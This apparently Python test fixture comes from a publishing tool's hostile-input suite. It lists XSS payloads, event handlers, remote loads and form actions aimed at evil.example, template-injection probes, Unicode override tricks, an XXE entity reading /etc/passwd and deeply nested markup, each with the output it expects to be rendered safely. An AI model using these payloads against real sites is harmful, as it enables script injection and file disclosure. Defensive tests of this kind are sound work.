"""Bodies that would act: raw HTML, and text that closes what it stands in."""

from tests.hostile.case import body, newest

ELEMENTS = (
    body("script", "<script>alert(1)</script>\n\nshown", shows="shown", warns="<script>"),
    body("script-inline", "shown <script>alert(1)</script>", shows="shown", warns="<script>"),
    body("script-case", "<ScRiPt>alert(1)</sCrIpT>\n\nshown", shows="shown", warns="<script>"),
    body("script-source", "<script src=//evil.example/x.js></script>\n\nshown", shows="shown"),
    body("script-space", "<script >alert(1)</script >\n\nshown", shows="shown"),
    body("script-slash", "<script/src=//evil.example/x></script>\n\nshown", shows="shown"),
    body("script-open", "shown\n\n<script>alert(1)", shows="shown"),
    body("script-half", "shown <scr<script>ipt>alert(1)</scr</script>ipt>", shows="shown"),
    body("script-line", "shown <script\n>alert(1)</script\n>", shows="shown"),
    body("script-type", '<script type="module">alert(1)</script>\n\nshown', shows="shown"),
    body("script-json", '<script type="application/ld+json">{}</script>\n\nshown', shows="shown"),
    body("script-svg", "<svg><script>alert(1)</script></svg>\n\nshown", shows="shown"),
    body("script-nul", "<scr\0ipt>alert(1)</scr\0ipt>\n\nshown", shows="shown"),
    body("template", "<template><script>alert(1)</script></template>\n\nshown", shows="shown"),
    body("style", "<style>@import url(//evil.example/x.css)</style>\n\nshown", warns="<style>"),
    body("style-body", "<style>body{display:none}</style>\n\nshown", shows="shown"),
    body("style-link", "<link rel=stylesheet href=//evil.example/x.css>\n\nshown", warns="<link>"),
    body("link-import", "<link rel=import href=//evil.example/>\n\nshown", shows="shown"),
    body("link-preload", "<link rel=preload href=//evil.example/ as=fetch>\n\nshown"),
    body("link-icon", "<link rel=icon href=//evil.example/x.ico>\n\nshown", shows="shown"),
    body("meta-refresh", "<meta http-equiv=refresh content='0;url=//evil.example'>\n\nshown"),
    body("meta-csp", "<meta http-equiv=Content-Security-Policy content=''>\n\nshown"),
    body("meta-charset", "<meta charset=utf-7>\n\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    body("base", "<base href=//evil.example/>\n\nshown", shows="shown", warns="<base>"),
    body("iframe", "<iframe src=//evil.example></iframe>\n\nshown", warns="<iframe>"),
    body("iframe-doc", "<iframe srcdoc='<script>alert(1)</script>'></iframe>\n\nshown"),
    body("frameset", "<frameset><frame src=//evil.example></frameset>\n\nshown"),
    body("object", "<object data=//evil.example/x.swf></object>\n\nshown", warns="<object>"),
    body("embed", "<embed src=//evil.example/x.swf>\n\nshown", shows="shown", warns="<embed>"),
    body("applet", "<applet code=x></applet>\n\nshown", shows="shown", warns="<applet>"),
    body("portal", "<portal src=//evil.example></portal>\n\nshown", shows="shown"),
    body("form", "<form action=//evil.example><input name=p></form>\n\nshown", warns="<form>"),
    body("button", "<button formaction=//evil.example>b</button>\n\nshown", warns="<button>"),
    body("input-password", "<input type=password name=p>\n\nshown", shows="shown"),
    body("input-image", "<input type=image src=//evil.example/x.png>\n\nshown", shows="shown"),
    body("select", "<select><option>x<script>alert(1)</script></select>\n\nshown"),
    body("textarea", "<textarea><img src=/gone onerror=alert(1)></textarea>\n\nshown"),
    body("keygen", "<keygen autofocus onfocus=alert(1)>\n\nshown", shows="shown"),
    body("isindex", "<isindex action=javascript:alert(1) type=image>\n\nshown", shows="shown"),
    body("marquee", "<marquee onstart=alert(1)>x</marquee>\n\nshown", shows="shown"),
    body("dialog", "<dialog open oncancel=alert(1)>x</dialog>\n\nshown", shows="shown"),
    body("video", "<video src=//evil.example/x autoplay onplay=alert(1)></video>\n\nshown"),
    body("audio", "<audio src=//evil.example/x onloadstart=alert(1)></audio>\n\nshown"),
    body("source", "<picture><source srcset=//evil.example/x.png></picture>\n\nshown"),
    body("track", "<video><track src=//evil.example/x.vtt default></video>\n\nshown"),
    body("canvas", "<canvas onclick=alert(1)></canvas>\n\nshown", shows="shown"),
    body("remote-picture", "shown ![shown](https://evil.example/x.png)", shows="shown"),
    body("remote-slashes", "shown ![shown](//evil.example/x.png)", shows="shown"),
    body("remote-escaped", "shown ![shown](/%2Fevil.example/x.png)", shows="shown"),
    body("remote-mixed", "shown <img src='/\\evil.example/x.png'>", shows="shown"),
    body("remote-tab", "shown <img src='/&#9;/evil.example/x.png'>", shows="shown"),
    body("remote-break", "shown <img src='/&#10;/evil.example/x.png'>", shows="shown"),
    body("remote-case", "shown <img src='HTTPS://evil.example/x.png'>", shows="shown"),
    body("remote-one-slash", "shown <img src='https:/evil.example/x.png'>", shows="shown"),
    body("remote-no-slash", "shown <img src='https:evil.example/x.png'>", shows="shown"),
    body("remote-dynsrc", "shown <img dynsrc=//evil.example/x lowsrc=//evil.example/x>"),
    body("remote-longdesc", "shown <img longdesc=//evil.example/x usemap=#x ismap alt=x>"),
    body("custom", "<x-y onclick=alert(1)>shown</x-y>", shows="shown", warns="<x-y>"),
    body("plaintext", "shown <plaintext><b>", shows="shown"),
    body("xmp", "<xmp><script>alert(1)</script></xmp>\n\nshown", shows="shown"),
    body("listing", "<listing><script>alert(1)</script></listing>\n\nshown", shows="shown"),
    body("noembed", "<noembed><img src=/gone onerror=alert(1)></noembed>\n\nshown", shows="shown"),
    body("body-tag", "<body onload=alert(1)>\n\nshown", shows="shown", warns="<body>"),
    body("html-tag", "<html onmouseover=alert(1)>\n\nshown", shows="shown", warns="<html>"),
    body("head-tag", "</head><body onload=alert(1)>\n\nshown", shows="shown"),
    body("doctype", "<!DOCTYPE html><script>alert(1)</script>\n\nshown", shows="shown"),
    body("instruction", "<?xml-stylesheet href='javascript:alert(1)'?>\n\nshown", shows="shown"),
    body("out-of-main", "</div></article></main><h1>shown</h1>", shows="shown"),
    body("details", "<details open ontoggle=alert(1)><summary>shown</summary></details>"),
)

_HANDLERS = (
    "onabort onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput "
    "onbeforetoggle onbeforeunload onblur oncanplay onchange onclick oncontentvisibilityautostate"
    "change oncontextmenu oncopy ondblclick ondrag onerror onfocus onfocusin onhashchange oninput "
    "onkeydown onload onloadend onmouseenter onmouseover onpageshow onpointerdown "
    "onpointerrawupdate"
    " onreadystatechange onscroll onscrollend onsecuritypolicyviolation onselectstart onsubmit "
    "ontoggle ontouchstart ontransitionend ontransitionrun onunhandledrejection onwheel "
    "onwebkitanimationstart onxyz"
)

HANDLERS = tuple(
    body(
        f"handler-{name}",
        f'<b {name}="alert(1)" tabindex=1 autofocus style="transition:all 1ms">shown</b>',
        shows="shown",
        warns=f"`{name}`",
    )
    for name in _HANDLERS.split()
)

ATTRIBUTES = (
    body("no-quotes", "shown <b onclick=alert(1)>x</b>", shows="shown", warns="`onclick`"),
    body("no-space", 'shown <b title="x"onclick="alert(1)">x</b>', shows="shown"),
    body("slash", "shown <b/onclick=alert(1)>x</b>", shows="shown"),
    body("case", "shown <B OnClIcK=alert(1)>x</B>", shows="shown", warns="`onclick`"),
    body("feed", "shown <b\x0conclick=alert(1)>x</b>", shows="shown"),
    body("break", "shown <b\nonclick\n=\nalert(1)>x</b>", shows="shown"),
    body("unclosed", "shown <b onclick=alert(1)", shows="shown"),
    body("unclosed-quote", 'shown <b title="> onclick=alert(1)>', shows="shown"),
    body("backtick", "shown <b title=`> onclick=alert(1)>x</b>", shows="shown"),
    body("quote-entity", "shown <b title='&quot; onclick=alert(1) x=&quot;'>x</b>", shows="shown"),
    body("twice", "shown <b title=x title=y onclick=alert(1)>x</b>", shows="shown"),
    body("equals", "shown <b =onclick=alert(1) onclick=alert(1)>x</b>", shows="shown"),
    body("nul-name", "shown <b on\0click=alert(1)>x</b>", shows="shown"),
    body("style-attribute", "<p style='background:url(//evil.example/x)'>shown</p>", shows="shown"),
    body("style-expression", "<p style='x:expression(alert(1))'>shown</p>", shows="shown"),
    body("style-cover", "<p style='position:fixed;inset:0'>shown</p>", shows="shown"),
    body("style-import", "<p style='@import url(//evil.example/x)'>shown</p>", shows="shown"),
    body("style-binding", "<p style='-moz-binding:url(//evil.example/x)'>shown</p>", shows="shown"),
    body("class-ours", "<p class='masthead skip'>shown</p>", shows="shown", warns="`class`"),
    body("id-ours", "<p id=the_text>shown</p>", shows="shown"),
    body("id-clobber", "<p id=body><a name=cookie>shown</a></p>", shows="shown"),
    body("role", "<p role=alert>shown</p>", shows="shown", warns="`role`"),
    body("ping", "<a href=https://example.com/ ping=//evil.example>shown</a>", shows="shown"),
    body("target", "<a href=https://example.com/ target=_top>shown</a>", shows="shown"),
    body("download", "<a href=https://example.com/ download=x.exe>shown</a>", shows="shown"),
    body("is", "<b is=x-y>shown</b>", shows="shown", warns="`is`"),
    body("slot", "<b slot=x part=y>shown</b>", shows="shown"),
    body("contenteditable", "<b contenteditable autofocus>shown</b>", shows="shown"),
    body("tabindex", "<b tabindex=1 accesskey=x>shown</b>", shows="shown"),
    body("popover", "<b popover popovertarget=x>shown</b>", shows="shown"),
    body("data", "<b data-x='<script>alert(1)</script>'>shown</b>", shows="shown"),
    body("xmlns", "<b xmlns:x=javascript:alert(1) xml:base=javascript:>shown</b>", shows="shown"),
    body("title-close", "<b title='</b><script>alert(1)</script>'>shown</b>", shows="shown"),
    body("alt-close", '![a"><script>alert(1)</script>](/favicon.svg) shown', shows="shown"),
    body("title-in-link", '[shown](/tags/ "a\\" onclick=alert(1) \\"")', shows="shown"),
    body(
        "label-html",
        "[<img src=/gone onerror=alert(1)> shown](https://example.com/)",
        shows="shown",
    ),
    body("fence-language", '```"><script>alert(1)</script>\nshown\n```', shows="shown"),
    body("fence-attributes", "```{onclick=alert(1) .x}\nshown\n```", shows="shown"),
    body("heading-attributes", "# shown {onclick=alert(1)}", shows="shown"),
    body("heading-html", "# shown <img src=/gone onerror=alert(1)>", shows="shown"),
    body("footnote-name", 'x[^"><script>]\n\n[^"><script>]: shown', shows="shown"),
    body("footnote-html", "x[^1]\n\n[^1]: shown <img src=/gone onerror=alert(1)>", shows="shown"),
    body("abbreviation", '*[HTML]: "onmouseover=alert(1)\n\nshown HTML', shows="shown"),
    body("definition", "<img src=/gone onerror=alert(1)>\n:   shown", shows="shown"),
    body("table-cell", "| a |\n|---|\n| shown <img src=/gone onerror=alert(1)> |", shows="shown"),
    body("task", "- [ ] shown <input type=text autofocus onfocus=alert(1)>", shows="shown"),
    body("reference-title", '[shown][r]\n\n[r]: https://example.com/ "\'><script>"', shows="shown"),
    body("auto-html", '<https://example.com/"><script>alert(1)</script>> shown', shows="shown"),
    body("auto-mail", '<x"onclick=alert(1)@example.com> shown', shows="shown"),
)

CONTROLS = tuple(
    body(f"control-{name}", f"shown {text} shown", shows="shown")
    for name, text in (
        ("nul", "a\0b"),
        ("escape", "a\x1b[31mb"),
        ("backspace", "a\x08\x08b"),
        ("delete", "a\x7fb"),
        ("c1", "a\x81\x9fb"),
        ("next-line", "a\x85b"),
        ("separators", "a\u2028b\u2029c"),
        ("not-characters", "a\ufffeb\uffffc\ufdd0d"),
        ("last-plane", "a\U0010ffffb\U0001fffec"),
        ("private", "a\ue000b\U000f0000c"),
        ("references", "&#0; &#1; &#8; &#27; &#127; &#128; &#155; &#xFFFE; &#xD800; &#x110000;"),
        ("override", "a \u202etxt.exe\u202c b"),
        ("override-open", "a \u202edcba"),
        ("isolate-open", "a \u2066\u2067 b"),
        ("embeddings", "\u202a" * 200),
        ("marks", "e" + "\u0301" * 500),
        ("tags", "a\U000e0001\U000e0041b"),
        ("zero-width", "a\u200b\u200c\u200d\u2060\ufeffb"),
        ("replacement", "a\ufffdb"),
    )
)

TEMPLATES = (
    body("jinja-value", "{{ site.title }} {{ 7 * 7 }}", shows="{{ site.title }} {{ 7 * 7 }}"),
    body("jinja-block", "{% include 'base.html' %} shown", shows="{% include 'base.html' %}"),
    body("jinja-comment", "{# gone? #} shown", shows="{# gone? #} shown"),
    body("jinja-escape", "{{ ''.__class__.__mro__ }}", shows="{{ ''.class.mro }}"),
    body("jinja-code", "`{{ view.card.title|upper }}`", shows="{{ view.card.title|upper }}"),
    body("jinja-raw", "{% raw %}{{ x }}{% endraw %}", shows="{% raw %}{{ x }}{% endraw %}"),
    body("jinja-link", "[shown]({{ href('/x/') }})", shows="shown"),
    body("liquid", "{% link _posts/x.md %} shown", shows="{% link _posts/x.md %} shown"),
    body("hugo", "{{< ref x >}} shown", shows="{{< ref x >}} shown"),
    body("format", "{0} {title!r} %(title)s %s $title ${x}", shows="{0} {title!r} %(title)s"),
    body("php", "<?= 1 ?> shown", shows="shown"),
)

# In the feed in full: what closes a script, a comment or CDATA must not close ours.
CLOSINGS = tuple(
    newest(f"closing-{number:02}", f"shown {text}", shows="shown")
    for number, text in enumerate(
        (
            "`</script><script>alert(1)</script>`",
            "`]]><script>alert(1)</script>`",
            "`--><script>alert(1)</script>`",
            "`</content></entry></feed>`",
            "</content></entry></feed>",
            "]]> ]]&gt; &lt;![CDATA[",
            "&amp;lt; &amp;amp; &#38;#60;",
            '\\u003c/script\\u003e \\"',
            '"}]}, {"id": "x"',
            "&#0;&#1;&#27;&#xFFFE; \x01\x1b\ufffe",
            "\u2028 \u2029 \u0085",
            "\U0001f1f5\U0001f1f8 \U0010ffff",
            "\u202e\u2066 open",
            "<!-- --> <!-- <script> -->",
            "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
        )
    )
)

_DEEP = "the Markdown is nested too deeply; write it flatter"

_MANY = "formatting that is not closed would be repeated in every block; write it flatter"

DEEP = (
    body("deep-list", "- " * 500 + "x", f"5: error: {_DEEP}"),
    body("deep-numbers", "1. " * 1000 + "x", f"5: error: {_DEEP}"),
    body("deep-quote", "> " * 500 + "x", f"5: error: {_DEEP}"),
    body("deep-mixed", "> - 1. " * 200 + "x", f"5: error: {_DEEP}"),
    body("deep-div", "<div>" * 300, f"5: error: {_DEEP}"),
    body("deep-table", "<table><tr><td>" * 300, f"5: error: {_DEEP}"),
    body(
        "deep-formatting",
        "".join(f"<i id=x{n}>" for n in range(1000)) + "<p>x" * 5000,
        f"5: error: {_MANY}",
    ),
)
